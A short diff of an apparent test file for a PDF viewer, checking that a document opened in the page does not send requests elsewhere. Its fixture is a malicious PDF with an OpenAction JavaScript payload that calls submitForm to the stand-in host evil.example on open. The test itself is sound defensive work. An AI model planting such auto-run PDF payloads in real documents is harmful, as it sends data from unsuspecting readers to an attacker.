@@ -146,6 +146,7 @@ describe('a document is looked at without leaving the page', () => {
           '/Type /Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.example/"\\))>>',
         ),
     );
+    expect(scripted).toContain('/S/JavaScript');
     const { page, troubles } = await opened('cv.pdf', new Uint8Array(Buffer.from(scripted, 'latin1')));
     const asked: string[] = [];
     page.on('request', (request) => void asked.push(request.url()));
